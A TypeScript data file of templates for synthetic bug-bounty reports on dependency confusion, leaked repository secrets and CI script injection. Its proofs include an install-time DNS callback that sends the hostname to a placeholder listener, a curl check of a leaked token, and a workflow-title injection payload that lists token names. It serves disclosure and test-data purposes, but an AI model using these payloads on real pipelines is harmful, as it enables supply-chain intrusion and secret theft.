import type { VulnerabilityClass } from './vulnerability-class.ts'

const dependencyConfusion: VulnerabilityClass = {
  key: 'dependency-confusion',
  type: 'Supply chain',
  cwe: 427,
  weight: 3,
  surfaces: ['code', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 5],
    ['High', 4],
  ],
  places: [
    { path: '/package.json', parameter: '@«slug»-internal/ui-kit', detail: 'npm' },
    { path: '/requirements.txt', parameter: '«slug»-auth-client', detail: 'PyPI' },
    { path: '/pom.xml', parameter: 'example.«slug»:platform-bom', detail: 'Maven Central' },
    { path: '/go.mod', parameter: 'go.«slug».example/kit', detail: 'a vanity domain' },
  ],
  titles: [
    'Dependency confusion: `«parameter»` can be registered on «detail»',
    'Internal package name `«parameter»` is unclaimed on the public registry',
    'Build machines of «company» install my package («parameter»)',
    'Supply chain: `«parameter»` resolved from «detail» before the private registry',
  ],
  summaries: [
    'The manifest `«path»` names `«parameter»`, which exists only in the private registry. The name was free on «detail». A package of mine with that name and a higher version was installed by your build within the hour.',
    '`«parameter»` is not claimed on «detail» and the build asks there first. I reserved the name with an empty package that only reports back that it was installed.',
  ],
  steps: [
    [
      'See the name in `«path»`, which is part of the published source map.',
      'Check that it is not on «detail».',
      'Publish version `99.10.«n»` with an install script that does one DNS lookup, nothing else. The package says who I am and why.',
      'Wait. The lookups below came in from your build machines.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Lookups, one for each installation:',
        lang: 'text',
        code: `10:02:13 DNS A runner-7f9d.build.«slug».«listener» from «ip»
10:02:58 DNS A runner-7f9d.build.«slug».«listener» from «ip»
10:41:20 DNS A mbp-of-a-developer.«slug».«listener» from «ip»`,
      },
      {
        say: 'What the package does, all of it:',
        lang: 'js',
        code: `// reserved by «handle» for the bug bounty programme of «company»
require('node:dns').lookup(require('node:os').hostname() + '.build.«slug».«listener»', () => {})`,
      },
    ],
  ],
  impacts: [
    'Code of a stranger runs on build machines and laptops, with access to signing keys and deploy tokens. It would be shipped to every «customer».',
    'Whoever had taken the name before me would have been inside the build pipeline.',
  ],
  fixes: [
    'Pin the private registry for the scope, reserve the names in public, and install from the lock file only.',
    'Use one registry that mirrors the public one and never falls through for internal names.',
  ],
  notes: [
    'Build log shows 99.10.x from the public registry at 10:02. Runner tokens revoked, package is reserved now by us.',
    'Reporter transferred the name. Very clean work, propose a bonus.',
  ],
}

const secretInRepository: VulnerabilityClass = {
  key: 'secret-in-repository',
  type: 'Hard-coded secret',
  cwe: 798,
  weight: 4,
  surfaces: ['code', 'web', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 3],
    ['High', 4],
    ['Medium', 2],
  ],
  places: [
    {
      path: '/.github/workflows/release.yml',
      parameter: 'REGISTRY_TOKEN',
      detail: 'a token of the package registry',
    },
    { path: '/static/js/main.map', parameter: 'MAPS_SERVER_KEY', detail: 'a server key in a source map' },
    { path: '/test/fixtures/env.json', parameter: 'JWT_SIGNING_KEY', detail: 'the signing key of sessions' },
    {
      path: '/deploy/values-prod.yaml',
      parameter: 'WEBHOOK_SECRET',
      detail: 'the secret of the payment webhooks',
    },
  ],
  titles: [
    'Live secret `«parameter»` in the public history of «target»',
    '«Detail» is committed in `«path»`',
    'Hard-coded `«parameter»` gives access to production',
    'Leaked credential (`«parameter»`) still valid',
  ],
  summaries: [
    'In `«path»` stands «detail». It was removed in a later commit but is still in the history, and it works.',
    'A public file holds `«parameter»`. I checked with one harmless call that it is valid and did nothing else with it.',
  ],
  steps: [
    [
      'Look at `«path»` in the commit named below.',
      'The value begins with the prefix of a live key.',
      'Ask the service who you are with it (read-only call).',
    ],
  ],
  proofs: [
    [
      {
        say: 'The line, masked:',
        lang: 'yaml',
        code: `# «path», commit 4f1c9e2, 14 months ago
env:
  «parameter»: tk_live_************************************9f3a`,
      },
      {
        say: 'One call to see whether it lives:',
        lang: 'bash',
        code: `$ curl -s -H "Authorization: Bearer $KEY" https://«host»/v1/whoami
{"subject":"svc-release","scopes":["packages:write","deploy"],"expires":null}`,
      },
    ],
  ],
  impacts: [
    'Whoever reads the repository can publish in the name of «company». There are public scanners that read every push within seconds.',
    'The credential never expires and has far more rights than its job needs.',
  ],
  fixes: ['Revoke it now, then clean the history. Use short-lived tokens from the pipeline’s own identity.'],
  notes: [
    'Revoked at 14:20. Audit of the registry: nothing published with it since the legitimate release.',
    'Key belongs to a demo tenant, no production data. Lowered to Medium.',
  ],
}

const pipelineInjection: VulnerabilityClass = {
  key: 'pipeline-injection',
  type: 'Command or code injection',
  cwe: 94,
  weight: 2,
  surfaces: ['code'],
  shape: 'takeover',
  severities: [
    ['Critical', 2],
    ['High', 5],
  ],
  places: [
    { path: '/.github/workflows/triage.yml', parameter: 'issue title', detail: 'pull_request_target' },
    { path: '/.ci/preview.yml', parameter: 'branch name', detail: 'a job with deploy rights' },
    { path: '/.github/workflows/docs.yml', parameter: 'comment body', detail: 'issue_comment' },
  ],
  titles: [
    'Script injection in the build: «parameter» runs as shell in `«path»`',
    'Anybody can run code in the release pipeline through the «parameter»',
    'Poisoned pipeline execution («detail») in `«path»`',
  ],
  summaries: [
    'The workflow `«path»` pastes the «parameter» into a shell script. Since it runs with «detail», secrets of the repository are present.',
    'Opening an issue or a pull request is enough to run code on a runner that holds release tokens. The «parameter» is not quoted.',
  ],
  steps: [
    [
      'Fork the repository (I used a private copy, not yours).',
      'Set the «parameter» to the payload below.',
      'Look at the log of the job: the output of `id` is there, and the names of the secrets.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The step in question and a «parameter» that breaks out of it:',
        lang: 'yaml',
        code: `# «path»
- run: |
    echo "Checking: \${{ github.event.issue.title }}"

# payload
#   x"; env | cut -d= -f1 | grep -i token; #`,
      },
      {
        say: 'Log of my copy:',
        lang: 'text',
        code: 'Checking: x\nNPM_TOKEN\nRELEASE_SIGNING_TOKEN\nuid=1001(runner) gid=127(docker)',
      },
    ],
  ],
  impacts: [
    'Release tokens can be read by anybody with a free account, and with them every user of the library.',
    'The docker group of the runner means root on the machine that builds releases.',
  ],
  fixes: [
    'Hand the value over through the environment and quote it; take secrets away from workflows that outsiders start.',
  ],
  notes: [
    'Right. The workflow was copied from a blog. Disabled, tokens rotated, team checks the other repositories.',
  ],
}

export const supplyChainClasses: readonly VulnerabilityClass[] = [
  dependencyConfusion,
  secretInRepository,
  pipelineInjection,
]
